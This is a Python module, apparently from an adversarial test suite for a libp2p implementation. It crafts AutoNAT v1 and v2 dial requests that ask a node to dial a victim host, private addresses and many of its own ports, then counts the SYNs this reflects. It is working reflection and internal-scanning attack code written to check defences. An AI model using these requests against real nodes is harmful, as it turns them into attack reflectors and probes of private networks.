"""AutoNAT as a weapon: a host that dials for others must not be made to dial against others."""

from __future__ import annotations

import contextlib
import time

from adversary.attacker import GONE, Attacker
from adversary.network import VICTIM
from adversary.peer import delimited
from adversary.session import Session
from adversary.syns import Counting
from peers.wire import decode_message, encode_message, encode_multiaddr, encode_varint, first_bytes
from stack.identity import Identity

_VERSION_1 = "/libp2p/autonat/1.0.0"
_VERSION_2 = "/libp2p/autonat/2/dial-request"


def version_1(attacker: Attacker) -> None:
    """Asks for dials to third parties, private addresses and many ports of its own host."""
    counting = Counting()
    done = 0
    while attacker.going(done):
        identity = Identity()
        with contextlib.suppress(*GONE):
            session = attacker.session(identity)
            own = session.connection.tcp.local_address[0]
            addresses = [f"/ip4/{VICTIM}/tcp/{4000 + done % 100}", "/ip4/192.168.1.1/tcp/80", "/ip4/10.0.0.1/tcp/80"]
            addresses += [f"/ip4/{own}/tcp/{1000 + index}" for index in range(40)]
            peer = encode_message((1, identity.multihash), *((2, encode_multiaddr(address)) for address in addresses))
            stream = session.request(_VERSION_1, delimited(encode_message((1, 0), (2, encode_message((1, peer))))))
            attacker.begun()
            stream.read_message(2.0)
            session.abort()
            attacker.count("answers")
        done += 1
    attacker.facts["requests"] = done
    attacker.facts["SYNs at the victim"] = counting.at(VICTIM)
    attacker.facts["SYNs at private addresses"] = counting.at("192.168.", "10.")


def version_2(attacker: Attacker) -> None:
    """Asks for dials to a third party, and pays what is asked for it."""
    _reflect(attacker, pays=True)


def version_2_unpaid(attacker: Attacker) -> None:
    """Asks for dials to a third party, and pays nothing."""
    _reflect(attacker, pays=False)


def _reflect(attacker: Attacker, pays: bool) -> None:
    counting = Counting()
    began = time.monotonic()
    paid = 0
    done = 0
    while attacker.going(done):
        with contextlib.suppress(*GONE):
            session = attacker.session()
            attacker.begun()
            paid += _ask(session, f"/ip4/{VICTIM}/tcp/{4000 + done % 100}", pays)
            session.abort()
        done += 1
    time.sleep(0.3)
    syns = counting.at(VICTIM)
    minutes = 1 + (time.monotonic() - began) / 60
    attacker.facts["requests"] = done
    attacker.facts["SYNs at the victim"] = syns
    attacker.facts["SYNs a minute"] = syns / minutes
    attacker.facts["kB paid for each"] = paid / 1000 / max(1, syns)


def _ask(session: Session, address: str, pays: bool) -> int:
    """One request; returns how many bytes were paid."""
    nonce = encode_varint(2 << 3 | 1) + bytes(8)
    request = encode_message((1, encode_message((1, encode_multiaddr(address))) + nonce))
    stream = session.request(_VERSION_2, delimited(request))
    asked = first_bytes(decode_message(stream.read_message(2.0)), 3)
    if asked is None:
        return 0
    count = decode_message(asked).get(2, [0])[0]
    assert isinstance(count, int)
    if not pays:
        with contextlib.suppress(*GONE):
            session.pump(lambda: stream.is_over, 0.05)
        return 0
    left = count
    while left > 0:
        size = min(left, 4000)
        stream.send(delimited(encode_message((4, encode_message((1, bytes(size)))))))
        left -= size
    with contextlib.suppress(*GONE):
        stream.read_message(3.0)
    return count
